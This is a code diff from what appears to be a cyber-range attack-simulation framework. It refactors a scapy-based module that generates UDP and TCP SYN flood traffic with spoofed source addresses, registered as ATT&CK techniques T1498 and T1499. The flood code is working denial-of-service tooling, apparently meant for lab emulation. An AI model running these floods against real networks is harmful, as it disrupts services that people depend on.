@@ -13,11 +13,11 @@ from __future__ import annotations
 import random
 import time
 
-from cyberrange.attack.spec import Param, Technique
-from cyberrange.attack.techniques.common import (
-    Result,
-    _unique_ips,
-    flow,
+from cyberrange.attack.spec import Param, technique
+from cyberrange.attack.techniques.common import Result, _unique_ips, flow
+from cyberrange.attack.techniques.layer2 import (
+    ANSWER_WAIT,
+    ARP_TIMEOUT,
     resolve_hops,
     route_targets,
 )
@@ -44,20 +44,20 @@ def _flood(kind: str, targets: list[str], params: dict) -> Result:
     from scapy.layers.inet import IP, TCP, UDP
     from scapy.layers.l2 import Ether
     res = Result(start=time.time())
-    count = int(params.get("count", 10000))
-    duration = float(params.get("duration", 0) or 0)
-    rate = float(params.get("rate", 10000) or 0)
+    count = int(params["count"])
+    duration = float(params["duration"] or 0)
+    rate = float(params["rate"] or 0)
     try:
         check_bounds(count, duration)
     except ValueError as exc:
         res.outcome, res.error = "error", str(exc)
         res.end = time.time()
         return res
-    n_src = max(1, min(int(params.get("sources", 16)), 4096))
-    rng = random.Random(int(params.get("seed", 1)))
-    dports = _ports_of(targets, params.get("dport", 80 if kind == "syn" else 53))
+    n_src = max(1, min(int(params["sources"]), 4096))
+    rng = random.Random(int(params["seed"]))
+    dports = _ports_of(targets, params["dport"])
     hops = route_targets(_unique_ips(targets), res.log)
-    macs = resolve_hops(hops, float(params.get("timeout", 1.0)), res.log)
+    macs = resolve_hops(hops, ARP_TIMEOUT, res.log)
     hops = [h for h in hops if macs.get(h.iface, {}).get(h.next_hop)]
     if hops and len({h.iface for h in hops}) > 1:
         iface = hops[0].iface
@@ -70,7 +70,7 @@ def _flood(kind: str, targets: list[str], params: dict) -> Result:
         return res
     iface = hops[0].iface
     my_mac = get_if_hwaddr(iface)
-    payload = bytes(rng.getrandbits(8) for _ in range(int(params.get("size", 64)))) \
+    payload = bytes(rng.getrandbits(8) for _ in range(int(params["size"]))) \
         if kind == "udp" else b""
     frames, keys, resets = [], [], []
     for h in hops:
@@ -89,7 +89,7 @@ def _flood(kind: str, targets: list[str], params: dict) -> Result:
             frames.append(bytes(eth / ip / l4))
             keys.append((h.src, h.ip, "tcp" if kind == "syn" else "udp", sport, dports[h.ip]))
     before = tx_dropped(iface)
-    sender = FastSender(iface, frames, batch=int(params.get("batch", 64)))
+    sender = FastSender(iface, frames, batch=int(params["batch"]))
     try:
         with QuietKernel([h.ip for h in hops]) as quiet:
             sender.run(count, rate, duration)
@@ -106,7 +106,7 @@ def _flood(kind: str, targets: list[str], params: dict) -> Result:
                     cleanup.close()
                 for key, r in used:
                     res.flows.append(flow(*key, 1, len(r)))
-            time.sleep(float(params.get("settle", 0.3)))   # answers in flight still get dropped
+            time.sleep(ANSWER_WAIT)   # answers in flight still get dropped
     finally:
         sender.close()
     if not quiet.active:
@@ -133,14 +133,6 @@ def _flood(kind: str, targets: list[str], params: dict) -> Result:
     return res
 
 
-def syn_flood(targets: list[str], params: dict) -> Result:
-    return _flood("syn", targets, params)
-
-
-def udp_flood(targets: list[str], params: dict) -> Result:
-    return _flood("udp", targets, params)
-
-
 def _common(dport_default: int, what: str) -> dict[str, Param]:
     return {
         "count": Param(int, 10000, f"{what} to send in total (at most {MAX_PACKETS:,})"),
@@ -155,18 +147,14 @@ def _common(dport_default: int, what: str) -> dict[str, Param]:
     }
 
 
-SPECS = [
-    Technique(
-        "T1498", "Network Denial of Service: volumetric UDP flood", "impact",
-        {**_common(53, "UDP datagrams"),
-         "size": Param(int, 64, "UDP payload bytes")},
-        produces=("packets", "pps", "targets"),
-    ),
-    Technique(
-        "T1499", "Endpoint Denial of Service: TCP SYN flood", "impact",
-        _common(80, "SYN segments"),
-        produces=("packets", "pps", "answers", "targets"),
-    ),
-]
+@technique("T1498", "Network Denial of Service: volumetric UDP flood", "impact",
+           {**_common(53, "UDP datagrams"), "size": Param(int, 64, "UDP payload bytes")},
+           produces=("packets", "pps", "targets"))
+def udp_flood(targets: list[str], params: dict) -> Result:
+    return _flood("udp", targets, params)
 
-FUNCS = {"T1498": udp_flood, "T1499": syn_flood}
+
+@technique("T1499", "Endpoint Denial of Service: TCP SYN flood", "impact",
+           _common(80, "SYN segments"), produces=("packets", "pps", "answers", "targets"))
+def syn_flood(targets: list[str], params: dict) -> Result:
+    return _flood("syn", targets, params)
